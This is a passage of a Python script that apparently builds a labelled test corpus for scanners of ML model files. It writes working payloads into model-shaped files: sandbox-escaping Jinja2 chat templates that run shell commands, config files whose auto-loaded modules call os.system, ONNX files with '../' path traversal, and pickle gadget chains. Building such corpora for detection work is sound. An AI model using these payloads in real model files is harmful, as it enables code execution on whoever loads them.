        G, "a `__lambda__` object as a node call kwarg (not a Lambda layer)")

    # ============================================================ H. chat templates
    H = "H template"
    base = {"bos_token": "<s>", "eos_token": "</s>", "model_max_length": 4096, "tokenizer_class": "LlamaTokenizerFast"}
    tpls = {
        "h_percent_operator": "{% set u = '%c' % 95 %}{{ (cycler|attr(u*2 ~ 'init' ~ u*2)|attr(u*2 ~ 'globals' ~ u*2))['os'].popen('" + CMD + "').read() }}{% for m in messages %}{{ m['content'] }}{% endfor %}",
        "h_select_repr_underscore": "{% set u = (()|select|string)[24] %}{{ (joiner|attr(u*2 ~ 'init' ~ u*2)|attr(u*2 ~ 'globals' ~ u*2)).os.system('" + CMD + "') }}{% for m in messages %}{{ m['content'] }}{% endfor %}",
        "h_indirect_format": "{% set f = '{0.' ~ ('%c'|format(95))*2 ~ 'init' ~ ('%c'|format(95))*2 ~ '}' %}{% set fmt = f.format %}{{ fmt(cycler) }}{% for m in messages %}{{ m['content'] }}{% endfor %}",
        "h_cycler_globals": "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}{% for m in messages %}{{ m['content'] }}{% endfor %}",
        "h_raise_exception_globals": "{% for m in messages %}{{ m['content'] }}{% endfor %}{{ raise_exception.__globals__['__builtins__']['__import__']('os').system('" + CMD + "') }}",
    }
    for name, tpl in tpls.items():
        d = dict(base, chat_template=tpl)
        put(name + "/tokenizer_config.json", json.dumps(d, indent=2).encode(), H, name[2:].replace("_", " "))
    # one as GGUF v3
    def gstr(s):
        b = s.encode()
        return struct.pack("<Q", len(b)) + b
    kvs = [("general.architecture", 8, gstr("llama")), ("general.name", 8, gstr("mlsec-blind5")),
           ("tokenizer.chat_template", 8, gstr(tpls["h_percent_operator"]))]
    gg = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs))
    for k, ty, v in kvs:
        gg += gstr(k) + struct.pack("<I", ty) + v
    put("h_percent_operator.gguf", gg, H, "the `%` operator underscore template in a GGUF header")

    # ============================================================ J. loader configs
    J = "J loader config"
    mod = ("import os\nos.system('" + CMD + "')\n").encode()
    put("j_custom_pipelines/config.json", json.dumps({
        "architectures": ["BertForSequenceClassification"], "model_type": "bert",
        "custom_pipelines": {"mlsec-task": {"impl": "mlsec_pipeline.MlsecPipeline",
                                            "pt": ["AutoModelForSequenceClassification"], "tf": [], "type": "text"}}},
        indent=2).encode(), J, "config.json `custom_pipelines` (pipeline(trust_remote_code=True) imports the impl)")
    put("j_custom_pipelines/mlsec_pipeline.py", mod, J, "the module named by custom_pipelines")
    put("j_custom_generate/custom_generate/generate.py", mod + b"def generate(model, *a, **k):\n    return None\n",
        J, "transformers custom_generate/generate.py (runs with generate(custom_generate=..., trust_remote_code=True))")
    put("j_peft_auto_mapping/adapter_config.json", json.dumps({
        "peft_type": "LORA", "task_type": "CAUSAL_LM", "r": 8, "lora_alpha": 16, "target_modules": ["q_proj", "v_proj"],
        "base_model_name_or_path": "meta-llama/Llama-2-7b-hf",
        "auto_mapping": {"base_model_class": "MlsecModel", "parent_library": "mlsec_local_module"}}, indent=2).encode(),
        J, "PEFT adapter_config `auto_mapping.parent_library` (AutoPeftModel imports it by name)")
    put("j_peft_auto_mapping/mlsec_local_module.py", mod, J, "the module auto_mapping names")
    put("j_hubconf/hubconf.py", b"dependencies = ['torch']\n" + mod + b"def model(**kw):\n    return None\n",
        J, "torch.hub hubconf.py (torch.hub.load executes it)")
    put("j_processor_auto_map/processor_config.json", json.dumps({
        "processor_class": "MlsecProcessor", "auto_map": {"AutoProcessor": "processing_mlsec.MlsecProcessor"}}).encode(),
        J, "processor_config.json auto_map")
    put("j_processor_auto_map/processing_mlsec.py", mod, J, "the processor module")

    # ============================================================ K. second round (after the first scan)
    K = "K round 2"
    # ONNX external data in places a walker may skip (training_info was missed in round 1)
    main = graph([node("Identity", ["x"], ["y"], fb(5, fb(1, "tensors") + fb(10, ext_tensor("w", trav)) + fv(20, 9)),
                       domain="mlsec.attr")], "main", inputs=["x"], outputs=["y"])
    put("k_onnx_attr_tensors_list.onnx", model(main, domains=[("mlsec.attr", 1)]), K,
        "external data `../` in an attribute's repeated `tensors` (TENSORS)")
    spattr = fb(1, ext_tensor("sv", trav, dims=(2,))) + fb(2, fv(1, 2) + fv(2, 7) + fb(8, "si") + fv(7, 0) + fv(7, 1)) + fv(3, 4)
    main = graph([node("Constant", [], ["y"], fb(5, fb(1, "sparse_value") + fb(22, spattr) + fv(20, 11)))], "main",
                 outputs=["y"])
    put("k_onnx_constant_sparse_value.onnx", model(main), K, "external data `../` in Constant `sparse_value` (SPARSE_TENSOR)")
    main = graph([node("MlsecOp", ["x"], ["y"], fb(5, fb(1, "bodies") + fb(11, then_g) + fv(20, 10)), domain="mlsec.attr")],
                 "main", inputs=["x"], outputs=["y"])
    put("k_onnx_attr_graphs_list.onnx", model(main, domains=[("mlsec.attr", 1)]), K,
        "external data `../` inside a graph of an attribute's repeated `graphs` (GRAPHS)")
    put("k_onnx_training_only_algorithm.onnx",
        model(graph([node("Identity", ["x"], ["y"])], "main", inputs=["x"], outputs=["y"]), training=fb(2, init_g)), K,
        "external data `../` in training_info.algorithm only")
    # templates: more indirect formatting (CVE-2024-56326 class)
    for name, tpl in {
        "k_indirect_format_map": "{% set u = '%c'|format(95) %}{% set fm = ('{0.' ~ u*2 ~ 'class' ~ u*2 ~ '.' ~ u*2 ~ 'mro' ~ u*2 ~ '}').format_map %}{{ fm({'0': messages}) }}{% for m in messages %}{{ m['content'] }}{% endfor %}",
        "k_format_via_dict_lookup": "{% set u = '%c'|format(95) %}{% set d = {'f': ('{0.' ~ u*2 ~ 'init' ~ u*2 ~ '}').format} %}{{ d.f(cycler) }}{% for m in messages %}{{ m['content'] }}{% endfor %}",
    }.items():
        put(name + "/tokenizer_config.json", json.dumps(dict(base, chat_template=tpl), indent=2).encode(), K,
            "template: " + name[2:].replace("_", " "))
    # loader code by convention: more files that a loader executes because of where they sit
    put("k_hubconf_subdir/repo/hubconf.py", b"import subprocess\nsubprocess.run(['sh', '-c', '" + CMD.encode() + b"'])\n"
        b"def resnet(**kw):\n    return None\n", K, "torch.hub repo hubconf.py calling subprocess")
    put("k_tokenizer_auto_map_list/tokenizer_config.json", json.dumps({
        "tokenizer_class": "MlsecTokenizer", "auto_map": {"AutoTokenizer": ["tokenization_mlsec.MlsecTokenizer", None]}}).encode(),
        K, "tokenizer_config auto_map in list form [slow, null]")
    put("k_tokenizer_auto_map_list/tokenization_mlsec.py", mod, K, "the tokenizer module")
    put("k_feature_extractor_auto_map/preprocessor_config.json", json.dumps({
        "feature_extractor_type": "MlsecFeatureExtractor",
        "auto_map": {"AutoFeatureExtractor": "feature_extraction_mlsec.MlsecFeatureExtractor"}}).encode(),
        K, "preprocessor_config auto_map for AutoFeatureExtractor")
    put("k_feature_extractor_auto_map/feature_extraction_mlsec.py", mod, K, "the feature extractor module")
    # pickles: gadgets of round 1 that were only suspicious, in other shapes
    pk("k_numpy_npy_load_module_getattr.pkl",
       call(getattr_(g("numpy.compat", "py3k"), "npy_load_module"), u("mlsec_blind5"), u(TMP + ".py")),
       K, "npy_load_module reached by getattr on the numpy.compat.py3k module")
    pk("k_scipy_netcdf_file_unbound_flush.pkl",
       call(g("scipy.io._netcdf", "netcdf_file.flush"), call(g("scipy.io._netcdf", "netcdf_file"), u(TMP + ".nc"), u("w"))),
       K, "netcdf_file(path,'w') then unbound flush writes it")
    pk("k_tempfile_closer_in_sklearn_like_state.pkl",
       build(call(g("copyreg", "_reconstructor"), g("sklearn.linear_model._base", "LinearRegression"), g("builtins", "object"), N),
             dct((u("fit_intercept"), TRUE), (u("_cache"), build(call(g("copyreg", "_reconstructor"),
                 g("tempfile", "_TemporaryFileCloser"), g("builtins", "object"), N), closer_state)))),
       K, "the tempfile __del__ gadget hidden in an estimator's __dict__")
    pk("k_typing_get_type_hints_namespace.pkl",
       call(g("typing", "get_type_hints"), build(call(g("argparse", "Namespace")),
                                                 dct((u("__annotations__"), dct((u("y"), u(CODE))))))),
       K, "typing.get_type_hints on an argparse.Namespace")


def main():
    for r, _, files in os.walk(OUT):
        for f in files:
            os.remove(os.path.join(r, f))
    write_all()
    blindgen.write_manifest(OUT, ("file", "class", "what", "expected"), ROWS)
    print(len(ROWS), "files")


if __name__ == "__main__":
    main()
